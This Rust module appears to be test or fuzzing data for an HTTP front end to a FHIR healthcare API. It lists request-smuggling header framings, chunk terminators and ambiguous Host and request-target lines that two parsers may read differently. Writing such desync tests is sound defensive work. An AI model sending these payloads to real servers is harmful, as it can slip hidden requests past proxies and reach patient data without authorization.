//! Beginnings of requests that two readers may understand differently, so that one of them takes
//! what follows for a request of its own, or the request for one to somebody else. What they are to
//! hide, and what must become of it, is for who sends them to say.

/// Method and target of the request that hides another.
pub const TARGETS: [(&str, &str); 2] =
    [("POST", "/fhir/Patient/_search"), ("GET", "/fhir/metadata")];

/// Ways to say how long a body is, of which one reader may believe one half and another the other.
pub const FRAMINGS: [&str; 24] = [
    "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
    "Transfer-Encoding: chunked\r\ncontent-length: 0\r\n",
    "Content-Length: 5\r\nContent-Length: 0\r\n",
    "Content-Length: 0\r\nContent-Length: 5\r\n",
    "Content-Length: 5, 0\r\n",
    "Content-Length: +5\r\n",
    "Content-Length: 5 \r\nTransfer-Encoding : chunked\r\n",
    "Content-Length: 5\r\n Transfer-Encoding: chunked\r\n",
    "Content-Length: 5\nTransfer-Encoding: chunked\r\n",
    "Content-Length: 5\rTransfer-Encoding: chunked\r\n",
    "Content_Length: 5\r\n",
    "Transfer-Encoding: xchunked\r\n",
    "Transfer-Encoding: chunked, identity\r\n",
    "Transfer-Encoding: identity, chunked\r\n",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "Transfer-Encoding:\x0bchunked\r\n",
    "Transfer-Encoding: chunked\x00\r\n",
    "Transfer_Encoding: chunked\r\n",
    "X: y\r\n\tTransfer-Encoding: chunked\r\n",
    "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n",
    "Connection: Content-Length\r\nContent-Length: 5\r\n",
    "Expect: 100-continue\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
];

/// What comes between a head and the hidden request: the end of a chunked body, or what one would
/// read as one.
pub const BETWEEN: [&str; 4] = ["0\r\n\r\n", "0\r\n\r", "5;a=\"\r\n\"\r\n12345\r\n0\r\n\r\n", ""];

/// A request of whoever has this key, up to where the hidden one begins.
#[must_use]
pub fn head((method, target): (&str, &str), key: &str, framing: &str, between: &str) -> String {
    format!(
        "{method} {target} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {key}\r\n\
         Content-Type: application/x-www-form-urlencoded\r\n{framing}\r\n{between}"
    )
}

/// Beginnings of a request for this path that name whose it is in ways of which one reader may
/// believe one and another the other. Further fields and an empty line follow.
#[must_use]
pub fn strays(method: &str, path: &str) -> Vec<String> {
    let target = |target: &str| format!("{method} {target}{path} HTTP/1.1\r\nHost: a\r\n");
    let host = |hosts: &str| format!("{method} {path} HTTP/1.1\r\n{hosts}");
    vec![
        target(""),
        target("http://server"),
        target("HTTP://a"),
        target("http://a@server"),
        target("http://server:0"),
        target("unix:/run/server.sock:"),
        target("//server"),
        target("/."),
        target("/%2e"),
        host("Host: server\r\n"),
        host("Host: a\r\nHost: server\r\n"),
        host("Host: a\r\n Host: server\r\n"),
        host("Host: a, server\r\n"),
        host("Host: a@server\r\n"),
        host("Host: a/..\r\n"),
        host("Host:\r\n"),
        host("Host : server\r\n"),
        host("X: y\nHost: server\r\n"),
        host(""),
        format!("{method} {path} HTTP/1.0\r\n"),
        format!("{method} {path} HTTP/0.9\r\n"),
        format!("{method} {path} HTTP/2.0\r\nHost: a\r\n"),
        format!("{method}\t{path}\tHTTP/1.1\r\nHost: a\r\n"),
        format!("GET {path} HTTP/1.1\r\nHost: a\r\nX-HTTP-Method-Override: {method}\r\n"),
    ]
}
